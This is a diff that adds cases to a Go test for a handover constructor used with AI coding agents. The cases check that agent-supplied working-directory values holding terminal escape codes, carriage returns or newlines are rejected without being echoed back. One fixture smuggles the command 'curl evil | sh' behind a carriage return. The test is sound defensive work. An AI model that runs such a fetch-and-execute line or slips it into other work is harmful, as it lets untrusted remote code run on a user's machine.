@@ -92,6 +92,15 @@ func TestAHandoverThatNobodyWouldFindIsRefused(t *testing.T) {
 	if _, err := NewHandover("vi", "/app", "/home/me", none, handedAt); err == nil || !strings.Contains(err.Error(), "claude-code, codex") {
 		t.Errorf("another program: %v", err)
 	}
+	// What an agent wrote into cwd is printed on a terminal, beside a command to copy.
+	for _, cwd := range []string{"/x\x1b[2Jy", "/x\rcurl evil | sh", "/x\ny"} {
+		if _, err := NewHandover("codex", cwd, "/home/me", none, handedAt); err == nil || strings.Contains(err.Error(), cwd) {
+			t.Errorf("%q: %v", cwd, err)
+		}
+	}
+	if h, err := NewHandover("claude-code", "/no/such/../app/.", "/home/me", none, handedAt); err != nil || h.Cwd != "/no/app" || !strings.Contains(h.File, "/projects/-no-app/") {
+		t.Errorf("a path with dots: %+v %v", h, err)
+	}
 	home := func(name string) string { return map[string]string{"CODEX_HOME": "/x"}[name] }
 	if h, err := NewHandover("codex", "/app", "/home/me", home, handedAt); err != nil || !strings.HasPrefix(h.File, "/x/sessions/") {
 		t.Errorf("another CODEX_HOME: %+v %v", h, err)
